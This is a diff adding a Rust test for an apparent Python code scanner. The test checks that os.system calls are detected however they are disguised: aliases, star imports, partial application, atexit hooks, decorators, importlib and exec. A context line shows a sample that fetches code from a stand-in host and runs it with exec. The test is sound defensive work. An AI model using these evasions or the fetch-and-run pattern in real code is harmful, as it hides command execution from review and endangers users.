@@ -82,6 +82,31 @@ fn names_that_are_put_together_are_resolved() {
 }
 
 #[test]
+fn a_call_is_found_however_it_is_named() {
+    for text in [
+        "import os as o\no.system('x')",
+        "from os import system as s\ns('x')",
+        "from os import *\nsystem('x')",
+        "import os\nf = os.system\nf('x')",
+        "import os\nf = print\nif a:\n    f = os.system\nf('x')",
+        "import logging\nlogging.os.system('x')",
+        "from logging import os\nos.system('x')",
+        "import os\n(f := os.system)('x')",
+        "import os\n[f('x') for f in (os.system,)]",
+        "import os, functools\nfunctools.partial(os.system, 'x')()",
+        "import os\nlist(map(os.system, ['x']))",
+        "import os, atexit\natexit.register(os.system, 'x')",
+        "import os\n@os.system\ndef f(): pass",
+        "try:\n    import os as p\nexcept ImportError:\n    p = None\np.system('x')",
+        "import importlib\nimportlib.import_module('os').system('x')",
+        "exec('import os; os.system(1)')",
+    ] {
+        let found = report(text).facts;
+        assert!(found.iter().any(|fact| fact.detail.contains("`os.system` at import")), "{text}: {found:?}");
+    }
+}
+
+#[test]
 fn code_that_is_fetched_and_run_is_malicious() {
     for text in [
         "import requests\nexec(requests.get('https://x.example/a').text)",
